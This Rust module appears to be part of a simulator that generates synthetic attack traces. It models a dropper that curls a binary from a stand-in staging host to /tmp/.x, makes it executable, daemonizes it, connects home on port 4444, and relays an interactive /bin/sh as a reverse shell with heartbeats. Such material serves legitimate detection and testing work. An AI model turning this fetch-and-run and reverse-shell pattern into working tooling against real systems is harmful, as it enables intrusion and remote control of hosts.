//! How they stay: a program is fetched and run, leaves the request behind, connects home, and
//! offers a shell there.

use std::net::{Ipv4Addr, SocketAddrV4};

use super::super::{
    host::SHOP_INIT,
    stage::{AtExec, CREATE, Link, Process, Stage},
};

/// Where it comes from, and where it connects to.
const STAGING: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 7);
const STAGING_NAME: &str = "cdn.example.net";
const HOME: SocketAddrV4 = SocketAddrV4::new(STAGING, 4_444);
pub(crate) const DROPPED: &str = "/tmp/.x";
const DROPPED_BYTES: usize = 49_357;
/// The beginning of a program's file.
const PROGRAM: &[u8; 80] = b"\
    \x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0\x40\x10\x40\0\0\0\0\0\x40\0\0\0\
    \0\0\0\0\x08\xbe\0\0\0\0\0\0\0\0\0\0\x40\0\x38\0\x09\0\x40\0\x1b\0\x1a\0\x06\0\0\0\x04\0\0\0\
    \x40\0\0\0\0\0\0\0";
/// Bytes that curl writes at a time.
const CHUNK_BYTES: usize = 16_384;

/// The program that stays, and its connection.
pub(crate) struct Foothold {
    process: Process,
    link: Link,
}

/// A shell whose input and output go through the foothold.
pub(crate) struct Remote {
    foothold: Foothold,
    pub(crate) shell: Process,
    /// The foothold's ends of the pipes to and from the shell.
    input: i64,
    output: i64,
}

/// Everything in one request.
pub(crate) fn drop_and_run(stage: &mut Stage, shell: &mut Process) -> Foothold {
    fetch(stage, shell, "x", DROPPED, DROPPED_BYTES);
    make_executable(stage, shell, DROPPED);
    let first = stage.start(shell, DROPPED);
    let mut process = stage.fork(&first);
    stage.exit_leaving(&first, SHOP_INIT);
    stage.reap(shell, &first);
    process.parent = SHOP_INIT;
    stage.new_session(&mut process);
    for fd in 0..3 {
        stage.close(&mut process, fd);
        stage.open(&mut process, "/dev/null", &["O_RDWR"]);
    }
    let link = stage.connect(&mut process, HOME);
    stage.send(&process, link, "web-6d9f7c8b54-x2x7q www-data\n");
    Foothold { process, link }
}

/// curl fetches a file.
pub(crate) fn fetch(stage: &mut Stage, shell: &Process, name: &str, path: &str, bytes: usize) {
    let line = format!("curl -s http://{STAGING_NAME}:8080/{name} -o {path}");
    stage.run(shell, &line, |stage, curl| {
        let link = request(stage, curl, &format!("GET /{name}"));
        stage.receive(curl, link, format!("HTTP/1.1 200 OK\r\nContent-Length: {bytes}\r\n\r\n"));
        let file = stage.open(curl, path, CREATE);
        for at in (0..bytes).step_by(CHUNK_BYTES) {
            let part = CHUNK_BYTES.min(bytes - at);
            stage.receive_of(curl, link, PROGRAM, part);
            stage.write_of(curl, file, PROGRAM, part);
        }
        stage.close(curl, file);
        stage.close(curl, link.fd);
    });
}

/// curl finds the host, connects and asks.
pub(crate) fn request(stage: &mut Stage, curl: &mut Process, what: &str) -> Link {
    stage.look_in_vain(curl, "/root/.curlrc");
    stage.look_up(curl, STAGING_NAME, STAGING);
    let link = stage.connect_soon(curl, SocketAddrV4::new(STAGING, 8_080));
    let head = format!("{what} HTTP/1.1\r\nHost: {STAGING_NAME}:8080\r\nAccept: */*\r\n\r\n");
    stage.send(curl, link, head);
    stage.wait_ms(96);
    link
}

pub(crate) fn make_executable(stage: &mut Stage, shell: &Process, path: &str) {
    stage.run(shell, &format!("chmod +x {path}"), |stage, chmod| {
        stage.look_at(chmod, path);
        stage.make_executable(chmod, path);
    });
}

impl Foothold {
    /// Offers a shell. bash is sought first, and is not there.
    pub(crate) fn open_shell(mut self, stage: &mut Stage) -> Remote {
        stage.receive(&self.process, self.link, "shell\n");
        let (shell_reads, input) = stage.pipe(&mut self.process, AtExec::Closed);
        let (output, shell_writes) = stage.pipe(&mut self.process, AtExec::Closed);
        let mut shell = stage.fork(&self.process);
        stage.copy_fd(&mut shell, shell_reads, 0);
        stage.copy_fd(&mut shell, shell_writes, 1);
        stage.copy_fd(&mut shell, shell_writes, 2);
        stage.close(&mut shell, self.link.fd);
        stage.close(&mut self.process, shell_reads);
        stage.close(&mut self.process, shell_writes);
        stage.exec_missing(&shell, "/bin/bash", &["bash", "-i"]);
        stage.exec(&mut shell, "/bin/sh", &["sh", "-i"]);
        Remote { foothold: self, shell, input, output }
    }
}

impl Remote {
    /// A line comes over the connection, and the shell gets it.
    pub(crate) fn told(&self, stage: &mut Stage, line: &str) {
        let Foothold { process, link } = &self.foothold;
        stage.receive(process, *link, format!("{line}\n"));
        stage.write(process, self.input, format!("{line}\n"));
        stage.told(&self.shell, line);
    }

    /// What the shell and its commands said goes over the connection.
    pub(crate) fn answered(&self, stage: &mut Stage, text: &str) {
        let Foothold { process, link } = &self.foothold;
        stage.read(process, self.output, text);
        stage.send(process, *link, text);
    }

    /// A sign of life.
    pub(crate) fn beat(&self, stage: &mut Stage) {
        let Foothold { process, link } = &self.foothold;
        stage.send(process, *link, "\0\0\0\x04beat");
        stage.wait_ms(38);
        stage.receive(process, *link, "\0\0\0\x02ok");
    }
}
